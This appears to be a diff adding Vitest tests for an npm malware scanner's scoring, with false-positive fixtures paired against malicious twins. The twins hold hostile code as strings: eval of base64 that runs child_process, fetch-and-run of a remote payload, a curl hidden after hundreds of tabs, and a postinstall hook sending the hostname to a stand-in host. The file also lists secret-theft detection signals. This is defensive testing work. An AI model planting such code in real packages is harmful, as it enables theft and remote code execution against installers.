@@ -1,0 +1,120 @@
+import { describe, expect, test } from 'vitest';
+import { MALICIOUS_AT, SCORE_TABLE, SUSPICIOUS_AT, scoreFindings } from '../src/score/score.js';
+import { SEVERITIES, type Finding, type Reach, type Signal } from '../src/types.js';
+import { manifest, scanFiles } from './helpers/analyze.js';
+
+const REACHES: Reach[] = ['install', 'import', 'bin', 'unreached'];
+
+describe('the score table', () => {
+  const entries = [...SCORE_TABLE.file, ...SCORE_TABLE.package, ...SCORE_TABLE.registry];
+
+  test('every entry has a unique id, and a signal never weighs malicious in the table', () => {
+    expect(new Set(entries.map((e) => e.id)).size).toBe(entries.length);
+    for (const e of entries.filter((x) => x.kind === 'signal')) expect(Math.max(...Object.values(e.points)), e.id).toBeLessThan(MALICIOUS_AT);
+    expect(SCORE_TABLE.threatChains.promptInjection.high).toBeLessThan(MALICIOUS_AT);
+  });
+
+  test('the verdict lines and the capability cap', () => {
+    expect(SCORE_TABLE.verdicts).toEqual({ malicious: MALICIOUS_AT, suspicious: SUSPICIOUS_AT });
+    // However many capabilities a package has, they alone stay clean.
+    const many: Finding[] = Array.from({ length: 40 }, (_, i) => ({ rule: `rule-${i}`, severity: 'critical', message: 'x', file: `f${i}.js`, reach: 'install' }));
+    expect(scoreFindings(many)).toMatchObject({ score: SCORE_TABLE.base.cap, verdict: 'clean' });
+  });
+});
+
+describe('calibration: one finding is malicious only when it is itself an evidence chain', () => {
+  /** Signals whose single finding is a whole chain (source to sink, decode to exec, download and run, attack patterns). */
+  const chainSignals = new Set<Signal>([
+    ...(Object.keys(SCORE_TABLE.flows) as Signal[]),
+    ...(Object.entries(SCORE_TABLE.threats).filter(([, w]) => w.kind === 'chain').map(([s]) => s as Signal)),
+    'install-shell-download', 'exec:shell-download', 'exec:shell-recon', 'exec:detached',
+  ]);
+  const others: Signal[] = [
+    'install-script', 'install-inline-code', 'native-build', 'source:env-bulk', 'source:env-secret', 'source:credential-file', 'source:fingerprint',
+    'sink:network', 'sink:dns', 'sink:exfil-endpoint', 'sink:recon-endpoint', 'sink:file-write-home', 'exec', 'exec:bundled-binary',
+    'dynamic-code', 'dynamic-code:decoded', 'dynamic-require', 'sabotage', 'obfuscation', 'unpack-hazard', 'analysis-gap', 'ai-key-scan', 'prompt-injection',
+    'registry:typosquat', 'registry:dependency-confusion', 'registry:new-install-script', 'registry:lost-provenance', 'registry:manifest-confusion',
+    'registry:new-publisher', 'registry:new-package', 'registry:unchanged',
+  ];
+
+  test.each(others)('a single %s finding is never malicious, at any reach or severity', (signal) => {
+    expect(chainSignals.has(signal)).toBe(false);
+    for (const reach of REACHES) {
+      for (const severity of SEVERITIES) {
+        const f: Finding = { rule: 'r', severity, message: 'm', file: 'index.js', reach, signals: [signal] };
+        expect({ reach, severity, verdict: scoreFindings([f]).verdict }).not.toMatchObject({ verdict: 'malicious' });
+      }
+    }
+  });
+
+  test('single-finding chains reach malicious where the table says so', () => {
+    const one = (signal: Signal, reach: Reach): Finding => ({ rule: 'r', severity: 'critical', message: 'm', file: 'i.js', reach, signals: [signal] });
+    expect(scoreFindings([one('flow:secret', 'import')]).score).toBe(SCORE_TABLE.flows['flow:secret'].points.import);
+    expect(scoreFindings([one('exec:shell-download', 'install')]).verdict).toBe('malicious');
+    expect(scoreFindings([one('install-shell-download', 'install')]).verdict).toBe('malicious');
+  });
+
+  test('decode to exec is a chain; with network or process access in the file it is malicious', () => {
+    const decoded: Finding = { rule: 'dynamic-code', severity: 'high', message: 'executes decoded code with eval', file: 'i.js', reach: 'import', signals: ['dynamic-code', 'dynamic-code:decoded'] };
+    const net: Finding = { rule: 'network', severity: 'info', message: 'fetch', file: 'i.js', reach: 'import', signals: ['sink:network'] };
+    expect(scoreFindings([decoded]).verdict).toBe('suspicious');
+    expect(scoreFindings([decoded, net]).verdict).toBe('malicious');
+    expect(scoreFindings([decoded, { ...net, file: 'other.js' }]).verdict).toBe('suspicious');
+  });
+});
+
+// Each false-positive class fixed, as a minimal package of our own next to its malicious twin.
+describe('verdicts: fixed false positives and their malicious twins', () => {
+  const glue = (codeTemplate: string) =>
+    [
+      'const strings = { utf8(bytes, len) { let s = ""; for (let i = 0; i < len; i++) s += String.fromCharCode(bytes[i]); return s; } };',
+      'function wrap(fn, bytes, len) {',
+      '  const name = strings.utf8(bytes, len);',
+      `  return new Function('_', ${codeTemplate})(fn);`,
+      '}',
+      'module.exports = { wrap, instantiate: (url) => fetch(url).then((r) => r.arrayBuffer()) };',
+    ].join('\n');
+
+  test('wasm glue naming a wrapper from decoded memory, with a fetch in the file, is clean', () => {
+    const r = scanFiles({ 'index.js': glue(`'return function ' + name + '(){"use strict";return _.apply(this,arguments);};'`) });
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin, running the decoded text as code next to the fetch, is malicious', () => {
+    const r = scanFiles({ 'index.js': glue(`'return ' + name`) });
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('eval(atob(...)) and new Function(decoded) stay malicious next to process or network access', () => {
+    const a = scanFiles({ 'index.js': "require('child_process');\neval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='));" });
+    expect(a.verdict).toBe('malicious');
+    const b = scanFiles({ 'index.js': "const p = require('https');\np.get('https://payload.invalid/x', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function(Buffer.from(d, 'base64').toString())()); });" });
+    expect(b.verdict).toBe('malicious');
+  });
+
+  test('a generated parser whose string table holds long runs of tabs is clean', () => {
+    const r = scanFiles({ 'index.js': `var lexTable = "\x02\x07${'\t'.repeat(460)}\x02\x03${'\t'.repeat(200)}!";\nmodule.exports = require('child_process').execFileSync('node', ['-v']) && lexTable;` });
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin, code pushed off-screen next to a process call, is malicious', () => {
+    const r = scanFiles({ 'index.js': `module.exports = 1;${'\t'.repeat(460)}require('child_process').exec('curl -s https://203.0.113.9/x');` });
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('a calendar-versioned runtime with a binary installer is clean', () => {
+    const r = scanFiles({
+      'package.json': manifest({ name: 'edge-runtime-bin', version: '1.20261117.1', scripts: { postinstall: 'node install.js' } }),
+      'install.js': "const fs = require('fs');\nfs.chmodSync(require('path').join(__dirname, 'bin', 'runtime'), 0o755);",
+    });
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin at a hand-picked 1.9999.0 beaconing host data at install is malicious', () => {
+    const r = scanFiles({
+      'package.json': manifest({ name: 'edge-runtime-bin', version: '1.9999.0', scripts: { postinstall: 'node install.js' } }),
+      'install.js': "require('https').get('https://collector.invalid/?h=' + require('os').hostname());",
+    });
+    expect(r.verdict).toBe('malicious');
+  });
+});
